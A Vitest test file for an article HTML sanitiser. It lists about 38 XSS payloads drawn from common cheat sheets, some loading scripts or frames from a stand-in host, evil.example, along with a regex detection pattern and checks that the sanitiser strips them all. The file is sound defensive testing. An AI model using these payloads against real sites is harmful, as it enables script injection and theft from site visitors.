import { describe, expect, it } from 'vitest';
import { sanitizeArticle } from './sanitize.js';

/** Payloads from the usual XSS cheat sheets; none may leave anything that runs. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object>',
  '<embed src="evil.swf">',
  '<form action="https://evil.example/"><input name=x></form>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="expression(alert(1))">x</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<p onclick="alert(1)" onmouseover="alert(1)">x</p>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a href="https://ok.example/" onclick="alert(1)">x</a>',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<img src="//evil.example/x.png">',
  '<a href="//evil.example/">x</a>',
];

const RUNNABLE = /<script|<iframe(?![^>]*src="https:\/\/(www\.youtube-nocookie\.com|www\.youtube\.com|player\.vimeo\.com)\/)|\son\w+\s*=|javascript:|vbscript:|data:text|<object|<embed|<form|<style|<link|<meta|<base|<svg|<math|style=|srcdoc/i;

describe('article sanitiser', () => {
  it.each(PAYLOADS)('leaves nothing that runs of %s', (payload) => {
    const clean = sanitizeArticle(`<p>Before</p>${payload}<p>After</p>`);
    expect(clean).not.toMatch(RUNNABLE);
    expect(clean).toContain('<p>Before</p>');
    // Sanitising twice changes nothing: what is stored is what is served.
    expect(sanitizeArticle(clean)).toBe(clean);
  });

  it('keeps the formatting an article needs, and opens links safely', () => {
    const html =
      '<h2>Margin</h2><p>Use <strong>stops</strong> and <em>size</em>.</p><ul><li>one</li></ul>' +
      '<table><thead><tr><th>Lots</th></tr></thead><tbody><tr><td>0.10</td></tr></tbody></table>' +
      '<a href="https://www.example.org/guide">guide</a>';
    const clean = sanitizeArticle(html);
    expect(clean).toContain('<h2>Margin</h2>');
    expect(clean).toContain('<strong>stops</strong>');
    expect(clean).toContain('<td>0.10</td>');
    expect(clean).toContain('<a href="https://www.example.org/guide" rel="noopener noreferrer" target="_blank">guide</a>');
  });

  it('keeps embedded players of trusted hosts only', () => {
    const trusted = sanitizeArticle('<iframe src="https://www.youtube-nocookie.com/embed/abc" width="560" height="315"></iframe>');
    expect(trusted).toContain('src="https://www.youtube-nocookie.com/embed/abc"');
    expect(sanitizeArticle('<iframe src="https://www.youtube-nocookie.com.evil.example/embed/abc"></iframe>')).not.toContain('iframe src');
  });
});
